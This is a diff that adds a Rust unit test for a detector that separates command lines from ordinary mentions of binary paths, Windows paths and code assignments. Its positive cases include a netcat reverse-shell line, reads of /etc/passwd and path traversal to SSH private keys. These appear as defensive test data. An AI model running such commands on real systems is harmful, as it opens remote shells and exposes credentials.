@@ -2269,3 +2269,34 @@ fn callable_names_as_values_versus_snake_case_values() {
         ],
     );
 }
+
+/// A binary's path named in a sentence or an error line is documentation; a Windows path's
+/// `root` or `etc` folder is no Unix tree; a name followed by an assignment operator is a
+/// statement of a programming language, not a command line. The same binaries, trees and
+/// names in command position or in a Unix path still count.
+#[test]
+fn mentions_paths_and_assignments_versus_command_lines() {
+    both_ways(
+        &[
+            "A drop-in replacement for /usr/bin/time with more stats",
+            "wrapper around /usr/bin/ssh-agent for macOS keychains",
+            "/usr/local/bin/python3: No module named pip",
+            "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            "D:\\backup\\etc\\profile.txt",
+            "import pandas as pd; df = pd.read_csv('data.csv')",
+            "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.head()",
+            "total = 0; df += 1",
+        ],
+        &[
+            "/bin/bash",
+            "x /bin/sh -c id",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "please; /bin/cat /etc/passwd and more words here",
+            "/root/.bash_history",
+            "../../root/.ssh/id_rsa",
+            "C:\\..\\..\\etc\\passwd",
+            "x=1; df -h",
+            "x = 1\ndf -h",
+        ],
+    );
+}
